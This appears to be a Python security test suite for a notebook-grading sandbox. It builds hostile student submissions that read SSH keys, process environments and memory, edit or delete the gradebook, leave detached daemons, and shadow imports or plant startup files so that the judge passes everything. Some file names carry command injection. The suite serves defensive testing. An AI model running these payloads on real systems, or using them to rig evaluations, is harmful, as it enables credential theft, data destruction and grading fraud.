"""Attacks by files: read, shipped, linked to, and left for those who come after."""

import json
import os
import py_compile
import shutil
import socket
import stat
from pathlib import Path

from course.instructor import build
from tests.attacks.attack import (
    NAME,
    RIGHT,
    TOLD,
    WRONG,
    World,
    attack,
    code,
    path,
    slim,
    write,
)


def steal(*paths: object) -> str:
    """Code that prints what it can read of some paths, globs among them."""
    return f"""
import glob
for pattern in {[str(p) for p in paths]!r}:
    for name in glob.glob(pattern)[:200] or [pattern]:
        try:
            print(name, open(name, "rb").read(200_000).decode("utf-8", "replace")[:60_000])
        except OSError as error:
            print(error)
"""


def call(line: str, pause: float = 0.0) -> str:
    """Code that starts a process which outlives the kernel and then runs a line of Python."""
    return f"""
import os, subprocess, sys
late = "import os, time; os.setsid() if os.getpid() != os.getsid(0) else 0; time.sleep({pause})"
subprocess.Popen(
    [sys.executable, "-c", late + "\\n" + {line!r}], start_new_session=True,
    stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True,
)
"""


def accomplice(folder: Path) -> Path:
    """The folder of a second student, graded right after the first, whose score counts too."""
    student = folder.parent
    second = student.with_name(f"{student.name}z") / NAME
    second.mkdir(parents=True)
    return second


# A judge that passes everything, as a module of the course.
LENIENT = "\n\ndef passes(case, outcome):\n    return True\n"


def edit(world: World) -> str:
    """Code that gives everybody 10 points in the gradebook."""
    return f"""
import sqlite3
with sqlite3.connect({str(world.root / "gradebook.db")!r}, timeout=1) as gradebook:
    gradebook.execute("UPDATE grade SET manual_score = 10, auto_score = 10")
"""


@code()
def reading_the_secret(world: World) -> str:
    """Reads the file that the inputs of grading are drawn from."""
    return steal(world.root / ".class_secret")


@code()
def reading_the_reference_solution(world: World) -> str:
    """Reads the solution in `source/` and hands it in as its own."""
    notebook = world.root / "source" / NAME / f"{NAME}.ipynb"
    return (
        steal(notebook)
        + f"""
import json
for cell in json.load(open({str(notebook)!r}))["cells"]:
    if "solution" in cell["metadata"].get("tags", ()):
        exec("".join(cell["source"]))
"""
    )


@code()
def importing_the_solutions(world: World) -> str:
    """Imports the module of reference solutions, or finds it beside the course package."""
    return """
from course.layer_normalization_solutions import layer_norm
"""


@code()
def importing_the_oracle(world: World) -> str:
    """Imports the task from the instructor's package, and with it the oracle."""
    return f"""
import sys
sys.path += [{str(build.ROOT)!r}, {str(world.install)!r}]
from course.instructor.tasks.ex01_basic_implementation import layer_norm as task
layer_norm = task.oracle
"""


@code()
def reading_another_students_work(world: World) -> str:
    """Reads what the other students handed in."""
    return steal(world.root / "submitted" / "*" / NAME / f"{NAME}.ipynb", f"../../*/{NAME}/*.ipynb")


@code()
def reading_the_home(world: World) -> str:
    """Reads the instructor's private key."""
    return steal(world.home / ".ssh" / "*", "~/.ssh/id_ed25519", "/root/.ssh/*", "/home/*/.ssh/*")


@code()
def reading_beside_the_gradebook(world: World) -> str:
    """Reads the roster that lies beside the gradebook, and the gradebook."""
    return steal(world.root / "roster.csv", world.root / "gradebook.db")


@code()
def reading_the_environment(world: World) -> str:
    """Reads the environment of its own process, where the grader's tokens may be."""
    return "import os\nprint(dict(os.environ))" + steal("/proc/self/environ")


@code()
def reading_all_environments(world: World) -> str:
    """Reads the environment and the arguments of every process there is."""
    return steal("/proc/[0-9]*/environ", "/proc/[0-9]*/task/*/environ")


@code()
def reading_through_other_processes(world: World) -> str:
    """Reads files through the root, the working folder and the open files of other processes."""
    inside = str(world.root).lstrip("/")
    return steal(
        f"/proc/[0-9]*/root/{inside}/roster.csv",
        "/proc/[0-9]*/cwd/roster.csv",
        "/proc/[0-9]*/cwd/.class_secret",
        "/proc/[0-9]*/fd/*",
    )


@code()
def reading_the_memory_of_the_parent(world: World) -> str:
    """Searches the memory of every process that lets it, for the canaries' prefix."""
    return """
import glob, os, re
for process in glob.glob("/proc/[0-9]*"):
    if process == f"/proc/{os.getpid()}":
        continue
    try:
        maps = open(f"{process}/maps").read().splitlines()
        with open(f"{process}/mem", "rb", 0) as memory:
            for line in [line for line in maps if "rw-p" in line][:400]:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(start)
                print(re.findall(rb"canary[0-9a-f]{24}", memory.read(min(end - start, 8_000_000))))
    except (OSError, ValueError, OverflowError):
        pass
"""


@code()
def tracing_the_parent(world: World) -> str:
    """Attaches to the process that started it with ptrace, and says so where it is let."""
    return f"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(0x4206, os.getppid(), None, None) == 0:
    open({str(world.drop / "traced")!r}, "w").write("the parent")
    libc.ptrace(17, os.getppid(), None, None)
"""


@code()
def where_things_are_mounted(world: World) -> str:
    """Looks up what is mounted where, and reads the roster from there."""
    return f"""
places = [line.split()[3:5] for line in open("/proc/self/mountinfo")]
tails = ("{world.root}/roster.csv", "roster.csv", "../roster.csv", "../../../roster.csv")
for source, target in places:
    for place in (source, target):
        for tail in tails:
            try:
                print(open(place.rstrip("/") + "/" + tail).read())
            except OSError:
                pass
"""


@code()
def calling_a_listener(world: World) -> str:
    """Connects to a port on this machine."""
    return f"import socket\nsocket.create_connection(('127.0.0.1', {world.port}), 2)"


@code()
def calling_a_unix_socket(world: World) -> str:
    """Connects to a unix socket by its path."""
    return f"import socket\nsocket.socket(socket.AF_UNIX).connect({str(world.unix_path)!r})"


@code()
def calling_an_abstract_socket(world: World) -> str:
    """Connects to an abstract unix socket, which no file system hides."""
    return f"""
import glob, socket
names = [line.split()[-1][1:] for line in open("/proc/net/unix") if "@" in line]
for name in [*names, {world.abstract!r}]:
    if name.startswith("grader"):
        socket.socket(socket.AF_UNIX).connect("\\0" + name)
"""


@code()
def writing_elsewhere(world: World) -> str:
    """Writes to a folder outside its own."""
    return f"open({str(world.drop / 'written')!r}, 'w').write('here')"


@code()
def editing_the_gradebook(world: World) -> str:
    """Gives itself 10 points in the gradebook while it is being graded."""
    return edit(world)


@code()
def editing_the_gradebook_later(world: World) -> str:
    """Leaves a detached process that edits the gradebook once grading has gone on."""
    return call(edit(world), pause=4)


@code()
def a_daemon_that_outlives_the_kernel(world: World) -> str:
    """Forks twice, ignores all signals, and writes elsewhere when the kernel is gone."""
    return f"""
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    os.closerange(0, 1000)
    time.sleep(5)
    open({str(world.drop / "daemon")!r}, "w").write("outlived")
    os._exit(0)
"""


@code()
def deleting_the_course(world: World) -> str:
    """Deletes the gradebook and what the others handed in."""
    return f"""
import os, shutil
for folder in ("submitted", "source", "release"):
    shutil.rmtree({str(world.root)!r} + "/" + folder, ignore_errors=True)
os.remove({str(world.root / "gradebook.db")!r})
"""


@code()
def locking_the_gradebook(world: World) -> str:
    """Leaves a process that holds an exclusive lock on the gradebook."""
    line = f"""
import sqlite3, time
gradebook = sqlite3.connect({str(world.root / "gradebook.db")!r}, isolation_level=None)
gradebook.execute("BEGIN EXCLUSIVE")
time.sleep(40)
"""
    return call(line)


@attack()
def a_link_to_the_solution(folder: Path, world: World) -> None:
    """Hands in a link to the reference solution in the place of the notebook."""
    path(folder).symlink_to(world.root / "source" / NAME / f"{NAME}.ipynb")


@attack()
def a_hard_link_to_the_solution(folder: Path, world: World) -> None:
    """Hands in a hard link to the reference solution in the place of the notebook."""
    path(folder).hardlink_to(world.root / "source" / NAME / f"{NAME}.ipynb")


@attack()
def a_link_to_another_student(folder: Path, world: World) -> None:
    """Hands in a link to the folder of another student in the place of its own."""
    folder.rmdir()
    folder.symlink_to(world.root / "submitted" / "student-000" / NAME)


@attack()
def links_to_secrets(folder: Path, world: World) -> None:
    """Ships links to secrets beside the notebook, which reads what is copied through them."""
    targets = {
        "secret": world.root / ".class_secret",
        "roster": world.root / "roster.csv",
        "key": world.home / ".ssh" / "id_ed25519",
        "solution": world.root / "source" / NAME / f"{NAME}.ipynb",
        "relative": Path("../../../roster.csv"),
        "environment": Path("/proc/self/environ"),
    }
    for name, target in targets.items():
        (folder / name).symlink_to(target)
    write(folder, slim(WRONG + steal(*targets)))


@attack()
def a_link_to_a_folder(folder: Path, world: World) -> None:
    """Ships links to whole folders beside the notebook, which walks through them."""
    (folder / "course").symlink_to(world.root)
    (folder / "home").symlink_to(world.home)
    write(folder, slim(WRONG + steal("course/roster.csv", "home/.ssh/*", "course/.class_secret")))


@attack(expected=TOLD)
def a_link_in_a_circle(folder: Path, world: World) -> None:
    """Ships links to themselves and to the folder that they lie in."""
    (folder / "self").symlink_to("self")
    (folder / "up").symlink_to("..")
    (folder / "data").mkdir()
    (folder / "data" / "again").symlink_to("../data")
    write(folder, slim(WRONG))


@code()
def links_made_while_it_runs(world: World) -> str:
    """Leaves links to secrets beside the notebook, for whoever copies its files to the feedback."""
    return f"""
import os
for name, target in (("roster.txt", {str(world.root / "roster.csv")!r}),
                     ("notes.txt", {str(world.root / ".class_secret")!r}),
                     ("key.txt", {str(world.home / ".ssh" / "id_ed25519")!r})):
    try:
        os.symlink(target, name)
    except OSError as error:
        print(error)
"""


@code()
def a_link_in_the_place_of_the_page(world: World) -> str:
    """Leaves a link where its page of feedback will be written."""
    return f"""
import os
try:
    os.symlink({str(world.root / "roster.csv")!r}, "{NAME}.html")
except OSError as error:
    print(error)
"""


@code()
def a_link_for_the_writer(world: World) -> str:
    """Replaces the notebook by a link to elsewhere, through which its results are then written."""
    return f"""
import os
try:
    os.remove("{NAME}.ipynb")
    os.symlink({str(world.drop / "through-a-link")!r}, "{NAME}.ipynb")
except OSError as error:
    print(error)
"""


@code()
def a_notebook_rewritten_while_it_runs(world: World) -> str:
    """Overwrites the notebook that is being graded with one that has the score in it."""
    return f"""
import os
try:
    notebook = open("{NAME}.ipynb").read()
    os.chmod("{NAME}.ipynb", 0o666)
    open("{NAME}.ipynb", "w").write(notebook.replace('check(\\\\"ex01', '10.0 or (\\\\"ex01'))
except OSError as error:
    print(error)
"""


def _ships(folder: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        target = folder / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
    write(folder, slim(WRONG))


@attack()
def a_numpy_of_their_own(folder: Path, world: World) -> None:
    """Ships a `numpy.py` that patches what it likes and then gets out of the way."""
    patch = """
import sys
here = sys.path.pop(0)
del sys.modules["numpy"]
import numpy
sys.path.insert(0, here)
import course.student.judge as judge
judge.passes = lambda *_: True
sys.modules["numpy"] = numpy
"""
    _ships(folder, {"numpy.py": patch})


@attack()
def a_kernel_of_their_own(folder: Path, world: World) -> None:
    """Ships an `ipykernel_launcher.py`, which is what starts the kernel."""
    patch = f"""
import os, sys
open({str(world.drop / "launched")!r}, "w").write("before any sandbox")
sys.path.pop(0)
import course.student.judge as judge
judge.passes = lambda *_: True
from ipykernel import kernelapp
kernelapp.launch_new_instance()
"""
    _ships(folder, {"ipykernel_launcher.py": patch})


@attack()
def an_ipykernel_of_their_own(folder: Path, world: World) -> None:
    """Ships packages with the names of those that grading and its kernel import."""
    text = f'open({str(world.drop / "imported")!r}, "a").write(__name__)\n'
    names = ("ipykernel", "IPython", "zmq", "json", "traitlets", "nbformat", "nbgrader", "joblib")
    _ships(folder, {f"{name}.py": text for name in names})


@attack()
def a_course_of_their_own(folder: Path, world: World) -> None:
    """Ships a package `course` whose check returns full marks."""
    _ships(folder, {"course/__init__.py": "def check(*_):\n    return 10.0\n"})


@attack()
def a_sitecustomize_of_their_own(folder: Path, world: World) -> None:
    """Ships `sitecustomize.py`, `usercustomize.py` and a `.pth` file."""
    text = f"open({str(world.drop / 'customized')!r}, 'w').write('at start')\n"
    _ships(
        folder, {"sitecustomize.py": text, "usercustomize.py": text, "a.pth": f"import os; {text}"}
    )


@attack()
def settings_of_their_own(folder: Path, world: World) -> None:
    """Ships settings of nbgrader, Jupyter, IPython and pytest beside the notebook."""
    text = f"open({str(world.drop / 'configured')!r}, 'a').write('by a student')\n"
    names = ("nbgrader_config.py", "jupyter_config.py", "ipython_config.py", "conftest.py")
    _ships(folder, dict.fromkeys(names, text))


@attack()
def a_start_up_file_for_the_next(folder: Path, world: World) -> None:
    """Plants an IPython start-up file that patches the judge of the next kernel."""
    line = "import course.student.judge as judge; judge.passes = lambda *_: True"
    plant = f"""
import os
for home in (os.path.expanduser("~"), {str(world.home)!r}):
    folder = home + "/.ipython/profile_default/startup"
    os.makedirs(folder, exist_ok=True)
    open(folder + "/00.py", "w").write({line!r})
"""
    write(folder, slim(WRONG + plant))
    write(accomplice(folder), slim(WRONG))


@attack()
def a_kernelspec_for_the_next(folder: Path, world: World) -> None:
    """Plants a kernelspec in the home, whose command is theirs, for the next kernel."""
    launch = (
        "import course.student.judge as judge; judge.passes = lambda *_: True;"
        "from ipykernel.kernelapp import launch_new_instance; launch_new_instance()"
    )
    plant = f"""
import json, os, sys
spec = {{"argv": [sys.executable, "-c", {launch!r}, "-f", "{{connection_file}}"],
        "display_name": "Python 3 (ipykernel)", "language": "python"}}
for home in (os.path.expanduser("~"), {str(world.home)!r}):
    folder = home + "/.local/share/jupyter/kernels/python3"
    os.makedirs(folder, exist_ok=True)
    json.dump(spec, open(folder + "/kernel.json", "w"))
"""
    write(folder, slim(WRONG + plant))
    write(accomplice(folder), slim(WRONG))


@attack()
def settings_for_the_next(folder: Path, world: World) -> None:
    """Plants settings of nbgrader and Jupyter in the home and in the course folder."""
    text = f"open({str(world.drop / 'planted')!r}, 'w').write('settings')"
    plant = f"""
import os
home = {str(world.home)!r}
for folder in (home + "/.jupyter", {str(world.root)!r}, os.path.expanduser("~/.jupyter")):
    os.makedirs(folder, exist_ok=True)
    for name in ("nbgrader_config.py", "jupyter_config.py"):
        open(folder + "/" + name, "w").write({text!r})
open({str(world.drop / "planted")!r}, "w").write("written from the kernel")
"""
    write(folder, slim(WRONG + plant))


@attack()
def a_judge_for_the_next(folder: Path, world: World) -> None:
    """Rewrites the judge of the installed course, for whoever imports it next."""
    judge = world.install / "course" / "student" / "judge.py"
    plant = f"""
import course.student.judge as judge
for path in ({str(judge)!r}, judge.__file__):
    open(path, "a").write({LENIENT!r})
"""
    write(folder, slim(WRONG + plant))
    write(accomplice(folder), slim(WRONG))


@attack()
def compiled_code_for_the_next(folder: Path, world: World) -> None:
    """Plants compiled code in the course's `__pycache__`, which is taken unchecked."""
    shipped = folder / "judge.py"
    shipped.write_text((world.install / "course/student/judge.py").read_text() + LENIENT)
    py_compile.compile(
        str(shipped),
        cfile=str(folder / "judge.bin"),
        invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH,
    )
    shipped.unlink()
    plant = """
import os, shutil, course.student.judge as judge
os.makedirs(os.path.dirname(judge.__cached__), exist_ok=True)
shutil.copy("judge.bin", judge.__cached__ + "~")
os.replace(judge.__cached__ + "~", judge.__cached__)
"""
    write(folder, slim(WRONG + plant))
    write(accomplice(folder), slim(WRONG))


@attack()
def site_packages_for_the_next(folder: Path, world: World) -> None:
    """Plants a `.pth` file in the environment's own packages, and in the user's."""
    plant = f"""
import os, site, sysconfig
text = "import os; open({str(world.drop / "planted")!r}, 'w').write('pth')"
for folder in (sysconfig.get_path("purelib"), site.getusersitepackages()):
    try:
        os.makedirs(folder, exist_ok=True)
        open(folder + "/zz.pth", "w").write(text)
    except OSError as error:
        print(error)
"""
    write(folder, slim(WRONG + plant))
    write(accomplice(folder), slim(WRONG))


@attack()
def a_message_for_the_next(folder: Path, world: World) -> None:
    """Leaves a solution in /tmp, in shared memory and in the home, where the next finds it."""
    places = ["/tmp/left.py", "/dev/shm/left.py", "/var/tmp/left.py", f"{world.home}/left.py"]
    leave = f"""
for place in {places!r}:
    try:
        open(place, "w").write({RIGHT!r})
    except OSError:
        pass
"""
    take = f"""
import os
for place in {places!r}:
    if os.path.exists(place):
        exec(open(place).read())
"""
    write(folder, slim(WRONG + leave))
    write(accomplice(folder), slim(WRONG + take))


@attack()
def a_segment_for_the_next(folder: Path, world: World) -> None:
    """Leaves a solution in System V shared memory, which no folder holds."""
    library = "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.shmat.restype = ctypes.c_void_p\n"
    text = RIGHT.encode() + b"\0"
    leave = f"""
segment = libc.shmget(0x5EED, 8192, 0o1666)
ctypes.memmove(libc.shmat(segment, None, 0), {text!r}, {len(text)})
"""
    take = """
segment = libc.shmget(0x5EED, 0, 0)
if segment >= 0:
    exec(ctypes.string_at(libc.shmat(segment, None, 0)).decode())
"""
    write(folder, slim(WRONG + library + leave))
    write(accomplice(folder), slim(WRONG + library + take))


@attack()
def a_process_for_the_next(folder: Path, world: World) -> None:
    """Leaves a process that serves the solution on a port of this machine to the next."""
    serve = f"""
import socket
listener = socket.create_server(("127.0.0.1", 47123))
listener.settimeout(30)
listener.accept()[0].sendall({RIGHT.encode()!r})
"""
    take = """
import socket
try:
    exec(socket.create_connection(("127.0.0.1", 47123), 2).makefile().read())
except OSError as error:
    print(error)
"""
    write(folder, slim(WRONG + call(serve)))
    write(accomplice(folder), slim(WRONG + take))


@attack(expected=TOLD)
def a_pipe_for_a_timestamp(folder: Path, world: World) -> None:
    """Ships a FIFO as `timestamp.txt`, for which its reader waits without end."""
    os.mkfifo(folder / "timestamp.txt")
    write(folder, slim(WRONG))


@attack(expected=TOLD)
def a_pipe_for_a_notebook(folder: Path, world: World) -> None:
    """Hands in a FIFO in the place of the notebook."""
    os.mkfifo(path(folder))


@attack(expected=TOLD)
def pipes_and_sockets(folder: Path, world: World) -> None:
    """Ships a FIFO and a socket beside the notebook, which nothing can copy."""
    os.mkfifo(folder / "data.npy")
    here = os.getcwd()
    os.chdir(folder)  # a socket's path has room for 108 bytes
    try:
        socket.socket(socket.AF_UNIX).bind("answers")
    finally:
        os.chdir(here)
    write(folder, slim(WRONG))


@attack(expected=TOLD)
def a_link_to_a_device(folder: Path, world: World) -> None:
    """Ships a link to /dev/zero, of which a copy never ends."""
    (folder / "data.npy").symlink_to("/dev/zero")
    write(folder, slim(WRONG))


@attack(expected=TOLD, honest_score=10.0)
def a_timestamp_of_garbage(folder: Path, world: World) -> None:
    """Ships a `timestamp.txt` that is no date, beside right work."""
    (folder / "timestamp.txt").write_bytes(b"\xff\xfe the day before yesterday \0")
    write(folder, slim(RIGHT))


@attack(expected=TOLD, honest_score=10.0)
def a_timestamp_out_of_range(folder: Path, world: World) -> None:
    """Ships a `timestamp.txt` of a year that no calendar has, beside right work."""
    (folder / "timestamp.txt").write_text("99999999999999999999-01-01 00:00:00 UTC")
    write(folder, slim(RIGHT))


@attack(expected=TOLD)
def a_timestamp_that_is_a_secret(folder: Path, world: World) -> None:
    """Ships a link to a secret as `timestamp.txt`, hoping that an error message quotes it."""
    (folder / "timestamp.txt").symlink_to(world.root / "roster.csv")
    write(folder, slim(WRONG))


@attack(expected=TOLD)
def a_timestamp_of_a_gigabyte(folder: Path, world: World) -> None:
    """Ships a sparse `timestamp.txt` that is read whole."""
    write(folder, slim(WRONG))
    with (folder / "timestamp.txt").open("wb") as file:
        file.truncate(250_000_000)


@attack(expected=TOLD)
def a_folder_for_a_notebook(folder: Path, world: World) -> None:
    """Hands in a folder with the notebook's name."""
    path(folder).mkdir()
    (path(folder) / "inside").write_text("nothing")


@attack(expected=TOLD, honest_score=10.0)
def strange_file_names(folder: Path, world: World) -> None:
    """Ships files whose names hold markup, quotes, line breaks, commands and 255 bytes."""
    names = [
        "<script>top.document.documentElement.dataset.owned=1<",
        "line\nbreak",
        "$(touch owned); `id` && '\"",
        "\u202egnp.exe",
        "-rf",
        "a" * 255,
        "..hidden..",
        "%s%n{0}{x.__class__}",
        "[a-z]*?",
    ]
    for name in names:
        (folder / name).write_text("x")
    (folder / os.fsdecode(b"not-utf-8-\xff\xfe")).write_text("x")
    write(folder, slim(RIGHT))


@attack(expected=TOLD, honest_score=10.0)
def files_that_cannot_be_read(folder: Path, world: World) -> None:
    """Ships files and folders without any permission, beside right work."""
    write(folder, slim(RIGHT))
    (folder / "closed").mkdir()
    (folder / "closed" / "file").write_text("x")
    (folder / "secretive").write_text("x")
    (folder / "secretive").chmod(0)
    (folder / "closed").chmod(0)


@attack(expected=TOLD, honest_score=10.0)
def a_program_with_privileges(folder: Path, world: World) -> None:
    """Ships a program that is set-uid."""
    shutil.copy("/bin/true", folder / "helper")
    (folder / "helper").chmod(stat.S_ISUID | 0o755)
    write(folder, slim(RIGHT))


@attack(expected=TOLD)
def a_wrong_file_name(folder: Path, world: World) -> None:
    """Hands in the notebook under another name."""
    write(folder, slim(WRONG))
    path(folder).rename(folder / "my homework (final).ipynb")


@attack(expected=TOLD)
def a_missing_notebook(folder: Path, world: World) -> None:
    """Hands in a folder without a notebook."""
    (folder / "readme.txt").write_text("I could not upload it.")


@attack()
def a_second_notebook(folder: Path, world: World) -> None:
    """Hands in a second notebook with the first's cells, the right work in it."""
    write(folder, slim(WRONG))
    (folder / f"{NAME} (1).ipynb").write_text(json.dumps(slim(RIGHT)))
    (folder / "sub").mkdir()
    (folder / "sub" / f"{NAME}.ipynb").write_text(json.dumps(slim(RIGHT)))


@attack(expected=TOLD, honest_score=10.0)
def a_folder_without_end(folder: Path, world: World) -> None:
    """Ships folders nested 200 deep with long names, deeper than a path can say."""
    write(folder, slim(RIGHT))
    here = os.getcwd()
    try:
        os.chdir(folder)
        for _ in range(60):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
    finally:
        os.chdir(here)
